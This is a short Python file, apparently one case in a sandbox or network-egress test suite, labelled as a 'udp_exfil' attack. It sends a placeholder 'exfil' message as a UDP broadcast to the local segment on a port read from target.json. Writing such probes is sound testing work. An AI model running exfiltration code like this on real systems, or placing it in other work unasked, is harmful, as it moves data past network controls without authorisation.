# attack: udp_broadcast
# category: udp_exfil
# kind: network
# describe: a UDP broadcast to the local segment
import json
T = json.load(open("target.json"))

import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
try:
    s.sendto(b"exfil", ("255.255.255.255", T["udp_port"]))
except OSError as e:
    print(e)
